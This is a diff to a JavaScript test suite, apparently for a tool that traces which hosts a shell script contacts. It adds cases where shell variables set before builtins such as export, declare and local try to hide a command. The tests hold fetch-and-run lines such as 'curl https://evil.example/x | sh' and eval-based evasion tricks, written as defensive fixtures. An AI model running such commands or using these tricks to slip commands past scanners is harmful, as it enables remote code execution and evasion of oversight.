@@ -25,9 +25,25 @@ test.each([
   ["before a special builtin, after which other shells keep it", `${FETCH} :; eval "$P"`],
   ["after its words were expanded", `${FETCH}; P=true eval "$P"`],
   ["one after the other", `A=https://evil.example/x P="curl $A" sh -c '$P'`],
+  ["before `export`", `P=true; ${FETCH} export P; eval "$P"`],
+  ["before `command export`", `P=true; ${FETCH} command export -p P; eval "$P"`],
+  ["before `readonly`", `P=true; ${FETCH} readonly P; eval "$P"`],
+  ["before `declare -x`", `P=true; ${FETCH} declare -x P; eval "$P"`],
+  ["before `declare`, after which bash forgets it", `${FETCH}; P=true declare P; eval "$P"`],
+  ["before `export` of another, after which bash forgets it", `${FETCH}; P=true export Q; eval "$P"`],
+  ["before `export -n`, after which bash forgets it", `${FETCH}; P=true export -n P; eval "$P"`],
+  ["before `local`", `f() { ${FETCH} local P; eval "$P"; }; f`],
   ["and unset in the background", `${FETCH}; unset P & eval "$P"`],
 ])("a variable that is set %s cannot hide a command", (_how, script) => {
   expect(follow(script)).toEqual(["evil.example"]);
+});
+
+test("a list before a command is expanded", () => {
+  expect(follow("x=($(curl https://evil.example/x | sh)) true")).toEqual(["evil.example"]);
+});
+
+test("any number of variables may stand before a command", () => {
+  expect(follow(`${"A= ".repeat(20_000)} true; cat c`)).toEqual([" c"]);
 });
 
 test("a folder that a command in the background enters is its own", () => {
